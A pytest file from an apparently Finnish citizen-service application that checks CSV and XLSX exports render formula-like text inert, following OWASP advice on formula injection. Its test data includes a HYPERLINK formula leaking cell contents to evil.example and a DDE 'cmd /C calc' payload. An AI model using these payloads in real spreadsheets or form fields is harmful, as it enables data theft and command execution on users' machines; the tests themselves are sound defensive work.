"""Text in the exports is never a live formula when a spreadsheet opens it (OWASP's advice on
CSV and formula injection): a subject or name that starts with =, +, -, @, a tab or a carriage
return is written as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from luukku.channels.citizen_request import CitizenRequest
from luukku.channels.services import web_request_submit
from luukku.core.testing.clock import at, on
from luukku.insights.exports import table_csv, tables_xlsx
from luukku.insights.reports import Cell, Table
from luukku.insights.services import rollups_refresh

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Avaa")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _table() -> Table:
    rows = [[Cell(text, "text"), Cell(-5)] for text in DANGEROUS]
    rows.append([Cell("Katuvalo – ei pala", "text"), Cell(3)])
    return Table(slug="words", title="Sanat", columns=["Sana", "Määrä"], rows=rows)


def test_xlsx_writes_formula_like_text_as_text_and_numbers_as_numbers():
    workbook = load_workbook(io.BytesIO(tables_xlsx([_table()], title="T", subtitle="S")))
    sheet = workbook["Sanat"]
    written = [(row[0], row[1]) for row in sheet.iter_rows(min_row=5)]
    for (text_cell, number_cell), text in zip(written, DANGEROUS, strict=False):
        assert text_cell.data_type == "s"
        assert text_cell.value == text.replace("\r", "\n")  # XML reads CR as a line feed
        assert text_cell.quotePrefix  # a spreadsheet keeps it text when the cell is edited
        assert number_cell.value == -5 and number_cell.data_type == "n"
    assert written[-1][0].value == "Katuvalo – ei pala" and not written[-1][0].quotePrefix


def test_csv_prefixes_formula_like_text_with_a_quote():
    rows = list(csv.reader(io.StringIO(table_csv(_table()).lstrip("\ufeff"), newline="")))
    assert [row[0] for row in rows[1:-1]] == ["'" + text for text in DANGEROUS]
    assert [row[1] for row in rows[1:-1]] == ["-5"] * len(DANGEROUS)  # numbers stay numbers
    assert rows[-1] == ["Katuvalo – ei pala", "3"]


@pytest.fixture
def formula_service(service):
    service.name = HYPERLINK
    service.save()
    on(
        at(2026, 11, 16, 9),
        web_request_submit,
        request=CitizenRequest(
            service=service, subject=HYPERLINK, description="Kuvaus", email="matti@example.fi"
        ),
    )
    on(at(2026, 11, 18, 8), rollups_refresh)
    return service


def test_a_subject_and_service_named_as_a_formula_are_text_in_the_exports(
    client, supervisor, formula_service
):
    client.force_login(supervisor)
    period = "start=2026-11-16&end=2026-11-22"
    workbook = load_workbook(
        io.BytesIO(client.get(f"/staff/metrics/export/?{period}&format=xlsx").content)
    )
    found = [
        cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value.upper()
    ]
    assert found, "the service's name is in the by-service table"
    assert all(cell.data_type == "s" for cell in found)
    assert HYPERLINK in [cell.value for cell in found]
    answer = client.get(f"/staff/metrics/export/?{period}&table=services&format=csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert ["'" + HYPERLINK] in [row[:1] for row in rows]
